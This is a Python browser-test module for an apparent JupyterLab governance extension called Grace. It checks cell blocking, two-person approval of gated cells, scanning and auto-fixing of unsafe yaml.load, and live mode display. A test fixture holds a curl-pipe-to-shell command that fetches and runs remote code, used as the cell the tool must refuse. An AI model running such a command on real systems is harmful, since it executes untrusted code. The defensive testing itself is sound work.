"""The Grace JupyterLab extension in a real `jupyter lab` and a real browser (Chromium).

One server per test module, with roles (GraceAuthorizer) and two people:
alice (runs cells, approver) and bob (approver), each with their own token
(tests/lab/identity.py). The notebook runs in a real kernel, governed by the
server extension; the panel hears Grace's events through Jupyter's event bus.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import artifact, free_port, serve
from tests.lab.conftest import code_cell, notebook

REPO = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
RISKY = 'import yaml\n\ndata = yaml.load(open("c.yml"))\n'
FIXED = 'import yaml\n\ndata = yaml.safe_load(open("c.yml"))\n'
FORBIDDEN = 'import os\nos.system("curl https://x.sh | sh")'
GATED = 'import yaml\nprint("loaded", yaml.load("a: 1", Loader=yaml.Loader))'
TOKENS = {"tok-alice": "alice", "tok-bob": "bob"}
TIMEOUT_MS = 30_000


@dataclass(frozen=True)
class Lab:
    url: str
    root: Path


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    root = tmp_path_factory.mktemp("lab-root")
    home = root / ".grace"
    env = {"GRACE_HOME": str(home), "PYTHONPATH": str(REPO), "GRACE_CHECKPOINT_INTERVAL": "0"}
    subprocess.run([str(BIN / "grace"), "init"], env={**os.environ, **env}, check=True)
    (root / "load.py").write_text(RISKY)
    cells = [code_cell("forbidden", FORBIDDEN), code_cell("gated", GATED)]
    (root / "work.ipynb").write_text(json.dumps(notebook(cells)))
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    argv = [
        str(BIN / "jupyter"),
        "lab",
        "--no-browser",
        "--allow-root",
        "--ServerApp.ip=127.0.0.1",
        f"--ServerApp.port={port}",
        f"--ServerApp.root_dir={root}",
        "--LabApp.expose_app_in_browser=True",
        "--ServerApp.authorizer_class=grace_kernel.server._auth.GraceAuthorizer",
        # One flag per name: traitlets does not parse a JSON list for a Set here.
        "--GraceAuthorizer.approvers=alice",
        "--GraceAuthorizer.approvers=bob",
        "--ServerApp.identity_provider_class=tests.lab.identity.TokenUsers",
        f"--TokenUsers.users={json.dumps(TOKENS)}",
        "--IdentityProvider.token=",
    ]
    with serve(argv, ready_url=f"{url}/api", env=env, cwd=root, log=artifact("lab-server.log")):
        yield Lab(url, root)
        _shutdown_kernels(url)


def _shutdown_kernels(url: str) -> None:
    headers = {"Authorization": "token tok-alice"}
    listing = urllib.request.Request(f"{url}/api/kernels", headers=headers)  # noqa: S310 - loopback http
    with urllib.request.urlopen(listing) as response:  # noqa: S310 - loopback http
        kernels = json.load(response)
    for kernel in kernels:
        kernel_url = f"{url}/api/kernels/{kernel['id']}"
        request = urllib.request.Request(kernel_url, headers=headers, method="DELETE")  # noqa: S310 - loopback http
        urllib.request.urlopen(request).close()  # noqa: S310 - loopback http


def open_lab(browser: Browser, lab: Lab, token: str, path: str = "") -> Page:
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    # ?reset: the workspace (open files, sidebars) is the server's, shared by both people.
    target = f"/lab/tree/{path}" if path else "/lab"
    page.goto(f"{lab.url}{target}?reset&token={token}")
    page.wait_for_function("() => window.jupyterapp && window.jupyterapp.started")
    page.evaluate("() => window.jupyterapp.started")
    return page


def open_panel(page: Page, tab: str) -> None:
    page.evaluate("() => window.jupyterapp.commands.execute('grace:open-panel')")
    page.locator(".grace-Tabs .lm-TabBar-tab", has_text=tab).click()


def widen_right_sidebar(page: Page, pixels: int) -> None:
    """Drag the handle between the main area and the right sidebar (for the screenshot)."""
    handles = "#jp-main-split-panel > .lm-SplitPanel-handle:not(.lm-mod-hidden)"
    handle = page.locator(handles).last
    box = handle.bounding_box()
    assert box is not None
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    page.mouse.move(x, y)
    page.mouse.down()
    page.mouse.move(x - pixels, y, steps=5)
    page.mouse.up()


def run_cell(page: Page, index: int) -> None:
    page.evaluate(
        """async (index) => {
            const app = window.jupyterapp;
            const panel = app.shell.currentWidget;
            await panel.sessionContext.ready;
            panel.content.activeCellIndex = index;
            // Not awaited: a held cell finishes only once someone approves it.
            void app.commands.execute('notebook:run-cell');
        }""",
        index,
    )


def cell_output(page: Page, index: int) -> str:
    return page.locator(".jp-Notebook .jp-Cell").nth(index).locator(".jp-OutputArea").inner_text()


@pytest.mark.timeout(240)
def test_the_panel_shows_blocks_alerts_and_approvals_live(browser: Browser, lab: Lab) -> None:
    alice = open_lab(browser, lab, "tok-alice", "work.ipynb")
    expect(alice.locator(".jp-Notebook .jp-Cell")).to_have_count(2)
    alice.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget?.sessionContext?.session?.kernel"
    )
    open_panel(alice, "Alerts")
    tabs = alice.locator(".grace-Tabs .lm-TabBar-tab")
    expect(tabs).to_have_text(["Alerts", "Approvals", "Ledger", "Health"])
    expect(alice.locator("#grace-alerts .grace-Empty")).to_have_text("No open alerts.")

    # A forbidden cell: refused inline, and the alert arrives through the event bus.
    run_cell(alice, 0)
    expect(alice.locator(".jp-Notebook .jp-Cell").nth(0).locator(".jp-OutputArea")).to_contain_text(
        "Grace refused this cell"
    )
    alert = alice.locator("#grace-alerts .grace-Item", has_text="work.ipynb#forbidden")
    expect(alert).to_be_visible()
    expect(alert.locator(".grace-Severity")).to_have_text("high")
    expect(alice.locator(".grace-CellBlocked").first).to_contain_text("denied by")

    # An approval-gated cell: held until bob approves it in his own browser.
    run_cell(alice, 1)
    gated = alice.locator(".jp-Notebook .jp-Cell").nth(1)
    expect(gated.locator(".jp-OutputArea")).to_contain_text("waiting for approval")
    found = re.search(r"waiting for approval (apr-[0-9a-f]+)", cell_output(alice, 1))
    assert found is not None
    approval_id = found.group(1)
    expect(gated.locator(".grace-CellBlocked")).to_contain_text(approval_id)
    gated.locator(".grace-CellBlocked").click()  # the cell links to the request in the panel
    own = alice.locator(f'#grace-approvals [data-approval-id="{approval_id}"]')
    expect(own).to_have_class(re.compile("grace-highlight"))
    expect(own.get_by_role("button", name="Approve")).to_be_disabled()  # her own request
    widen_right_sidebar(alice, 260)
    alice.screenshot(path=str(artifact("lab-panel.png")))

    bob = open_lab(browser, lab, "tok-bob")
    open_panel(bob, "Approvals")
    request = bob.locator(f'#grace-approvals [data-approval-id="{approval_id}"]')
    expect(request).to_contain_text("cell.execute")
    expect(request).to_contain_text("for alice")
    request.locator(".grace-Reason").fill("reviewed: parses a constant")
    request.get_by_role("button", name="Approve").click()
    expect(request).to_have_count(0)

    expect(gated.locator(".jp-OutputArea")).to_contain_text("loaded {'a': 1}")
    expect(own).to_have_count(0)  # alice's list updated from the approval event
    bob.context.close()
    alice.context.close()


@pytest.mark.timeout(240)
def test_scan_marks_apply_fix_and_undo_restores_the_file(browser: Browser, lab: Lab) -> None:
    alice = open_lab(browser, lab, "tok-alice", "load.py")
    expect(alice.locator(".jp-FileEditor .cm-content")).to_contain_text("yaml.load")
    alice.evaluate("() => window.jupyterapp.commands.execute('grace:scan-file')")
    marker = alice.locator(".jp-FileEditor .grace-FindingLine")
    expect(marker).to_have_count(1)
    expect(marker).to_have_attribute("data-grace-rules", "GRC-PY-019")
    expect(marker).to_have_attribute(
        "title", re.compile(r"GRC-PY-019 \(high.*Fix \(automatic\)", re.S)
    )

    alice.evaluate("() => window.jupyterapp.commands.execute('grace:apply-fix')")
    expect(alice.locator(".jp-FileEditor .cm-content")).to_contain_text("yaml.safe_load")
    assert (lab.root / "load.py").read_text() == FIXED
    expect(marker).to_have_count(0)  # scanned again after the fix: nothing left

    alice.get_by_role("button", name="Undo").first.click()
    expect(alice.locator(".jp-FileEditor .cm-content")).not_to_contain_text("safe_load")
    assert (lab.root / "load.py").read_text() == RISKY
    expect(marker).to_have_count(1)
    open_panel(alice, "Ledger")
    expect(alice.locator("#grace-ledger")).to_contain_text("fix load.py")
    expect(alice.locator("#grace-ledger")).to_contain_text("undone")
    alice.context.close()


def _api(lab: Lab, token: str, path: str, body: dict[str, object]) -> tuple[int, dict[str, Any]]:
    request = urllib.request.Request(  # noqa: S310 - loopback http
        f"{lab.url}/grace/api/{path}",
        data=json.dumps(body).encode(),
        headers={"Authorization": f"token {token}", "Content-Type": "application/json"},
        method="POST",
    )
    try:
        with urllib.request.urlopen(request) as response:  # noqa: S310 - loopback http
            return response.status, json.load(response)
    except urllib.error.HTTPError as exc:
        with exc:
            return exc.code, json.load(exc)


def _set_mode(lab: Lab, mode: str) -> None:
    """alice asks, bob approves, alice sets: the governed `grace mode set` of the API."""
    code, asked = _api(lab, "tok-alice", "health/mode", {"mode": mode, "reason": "drill"})
    assert code == 202, asked
    code, _ = _api(lab, "tok-bob", f"approvals/{asked['approval_id']}/approve", {})
    assert code == 200
    code, done = _api(lab, "tok-alice", "health/mode", {"mode": mode, "reason": "drill"})
    assert (code, done["mode"]) == (200, mode)


@pytest.mark.timeout(240)
def test_the_status_bar_and_health_tab_follow_the_mode_live(browser: Browser, lab: Lab) -> None:
    alice = open_lab(browser, lab, "tok-alice")
    status = alice.locator(".grace-Status")
    expect(status).to_contain_text("Grace: normal")
    expect(status).not_to_have_class(re.compile("grace-attention"))
    open_panel(alice, "Health")
    health = alice.locator("#grace-health")
    expect(health.locator(".grace-Mode")).to_contain_text("Mode: normal")
    expect(health).to_contain_text("store")
    try:
        _set_mode(lab, "safe")
        # No reload and no polling: the health-changed event brings it.
        expect(status).to_contain_text("Grace: safe", timeout=5_000)
        expect(status).to_have_class(re.compile("grace-attention"))
        expect(health.locator(".grace-Mode")).to_contain_text("Mode: safe")
        expect(health.locator(".grace-Mode")).to_contain_text("set by hand")
    finally:
        _set_mode(lab, "normal")
    expect(status).to_contain_text("Grace: normal", timeout=5_000)
    expect(status).not_to_have_class(re.compile("grace-attention"))
    alice.context.close()
